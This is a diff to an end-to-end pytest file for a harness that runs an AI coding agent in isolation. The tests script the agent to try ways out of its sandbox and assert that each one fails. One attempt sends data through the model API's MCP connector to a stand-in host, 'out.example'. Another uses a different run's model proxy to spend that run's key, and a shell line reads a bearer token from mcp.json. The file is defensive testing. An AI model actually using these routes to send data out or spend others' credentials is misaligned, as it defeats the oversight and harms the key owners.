@@ -20,6 +20,8 @@ from typing import Any
 
 import pytest
 from tusk.actions.run_claude import egress, isolation, job, supervisor
+from tusk.actions.run_claude.metering import Meter
+from tusk.actions.run_claude.model_proxy import Credentials, ModelProxy
 from tusk.actions.run_claude.network import NetworkFenceError
 from tusk.mcp_server import passes
 
@@ -387,6 +389,15 @@ def test_isolation_the_agent_holds_no_secret_and_reaches_only_its_own_servers(
                 DNS_PROBE.format(resolver()),
                 curl("$ANTHROPIC_BASE_URL/_model/journal", "--noproxy '*'"),
                 curl(second, "--noproxy '*'", "-X POST"),
+                # and the model API itself as a way out: an MCP connector server it would
+                # connect to, a page it would fetch.
+                curl(
+                    "$ANTHROPIC_BASE_URL/v1/messages",
+                    "--noproxy '*'",
+                    '-H "x-api-key: $ANTHROPIC_API_KEY"',
+                    '-d \'{"model": "m", "max_tokens": 1, "mcp_servers": '
+                    '[{"type": "url", "url": "https://out.example/?d=x"}]}\'',
+                ),
             ]
             script = {
                 "steps": [
@@ -416,7 +427,7 @@ def test_isolation_the_agent_holds_no_secret_and_reaches_only_its_own_servers(
     assert user[:-6] == isolation.run_user_name(e2e.agent_user, "local", "abcdef")[:-6]
     assert f"HOME=/home/{user}/home\n" in ident
     assert "ANTHROPIC_BASE_URL=http://127.0.0.1:" in ident  # the model proxy
-    assert API_KEY not in ident  # the agent holds only a dummy (Claude Code shows it redacted)
+    assert API_KEY not in ident  # the agent holds only its proxy's run key
     assert "HTTPS_PROXY=http://127.0.0.1:" in ident and "TUSK_" not in ident
     assert "mcp serve" in proc and "Permission denied" in proc
     assert "Permission denied" in temp
@@ -426,13 +437,17 @@ def test_isolation_the_agent_holds_no_secret_and_reaches_only_its_own_servers(
     assert ".claude" in claude_home
     assert "Permission denied" in homes
     assert grep.strip() == "grep-done"
-    github, other, github_via_proxy, blocked, dns, model_admin_api, second_mcp = network
+    (github, other, github_via_proxy, blocked, dns, model_admin_api, second_mcp, connector) = (
+        network
+    )
     assert github == "000 7" and other == "000 7"  # refused: curl's "could not connect"
     assert github_via_proxy.startswith("403 ")  # the egress proxy filters it
     assert blocked.split()[0] in ("000", "403") and blocked.split()[1] != "0"
     assert "Error" in dns  # PermissionError/ConnectionRefusedError: no packet left
     assert model_admin_api == "404 0"  # the model proxy forwards the Messages API only
     assert second_mcp == "000 7"
+    assert connector == "400 0"  # refused by the model proxy: the model never saw it
+    assert not any("mcp_servers" in entry["request"] for entry in e2e.model.journal())
     # The key the agent never held never reaches the log issue either.
     summary = e2e.log_comments()[0]
     assert API_KEY not in summary
@@ -449,15 +464,26 @@ def test_isolation_the_agent_holds_no_secret_and_reaches_only_its_own_servers(
 
 def test_another_runs_mcp_server_refuses_this_runs_agent(e2e: E2E) -> None:
     """With the network open (so the fence is not what stops it), the agent holds only
-    its own run's bearer: another run's server answers 401 and records the refusal."""
+    its own run's bearer: another run's server answers 401 and records the refusal.
+    Another run's model proxy refuses it too: it would spend that run's model key."""
     e2e.config = {"agent": {"linux_user": e2e.agent_user, "network": "open"}}
-    with second_runs_mcp_server(e2e) as (second, second_run):
+    other_proxy = ModelProxy(
+        upstream="http://127.0.0.1:9", credentials=Credentials(), meter=Meter(budget_usd=5)
+    )
+    with second_runs_mcp_server(e2e) as (second, second_run), other_proxy:
         own_bearer = '$(python3 -c "import json,os; print(json.load(open(os.path.expanduser('
         own_bearer += "'~/../mcp.json')))['mcpServers']['github']['headers']['Authorization'])\")"
         probe = curl(second, "--noproxy '*'", "-X POST", f'-H "Authorization: {own_bearer}"')
+        spend = curl(
+            f"{other_proxy.url}/v1/messages",
+            "--noproxy '*'",
+            '-H "x-api-key: $ANTHROPIC_API_KEY"',
+            '-d \'{"model": "claude-opus-4-1", "max_tokens": 1}\'',
+        )
         script = {
             "steps": [
                 tool("Bash", command=probe),
+                tool("Bash", command=spend),
                 tool(f"{GH}create_comment", repo="alice/widgets", number=1, body="Tried."),
                 {"text": "Done."},
             ],
@@ -468,6 +494,8 @@ def test_another_runs_mcp_server_refuses_this_runs_agent(e2e: E2E) -> None:
     assert result.outcome.kind == "completed", result.outcome
     assert result.network == "open (agent.network: open in tusk.yml)"
     assert e2e.tool_results()[0].strip() == "401 0"
+    assert e2e.tool_results()[1].strip() == "401 0"
+    assert other_proxy.meter.spend().requests == 0
     assert '"code":"UNAUTHORIZED"' in audit.replace(" ", "")
     assert "- network: open (agent.network: open in tusk.yml)" in e2e.log_comments()[0]
 
